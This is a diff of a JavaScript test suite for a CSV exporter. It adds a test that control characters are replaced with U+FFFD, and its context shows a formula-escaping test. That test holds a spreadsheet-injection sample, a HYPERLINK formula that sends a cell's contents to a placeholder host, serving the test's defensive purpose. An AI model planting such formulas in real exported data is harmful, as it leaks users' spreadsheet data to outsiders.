@@ -16,6 +16,18 @@ describe('CSV format', () => {
     );
   });
 
+  it('writes control characters but tab and line breaks as U+FFFD, before quoting', () => {
+    const rows = [
+      { name: 'a\u0000b', note: 'bell\u0007, "esc"\u001b' },
+      { name: '\u0000=1+2', note: 'del\u007f c1\u0085 tab\tcr\r' },
+    ];
+    expect(toCsv(['name', 'note'], rows)).toBe(
+      'name,note\r\n' +
+        'a\uFFFDb,"bell\uFFFD, ""esc""\uFFFD"\r\n' +
+        '\uFFFD=1+2,"del\uFFFD c1\uFFFD tab\tcr\r"\r\n',
+    );
+  });
+
   it('gives text a spreadsheet would run as a formula a leading quote, not numbers', () => {
     const rows = [
       { name: '=HYPERLINK("http://x/?"&A1,"Click")', n: -3, money: '-12.50' },
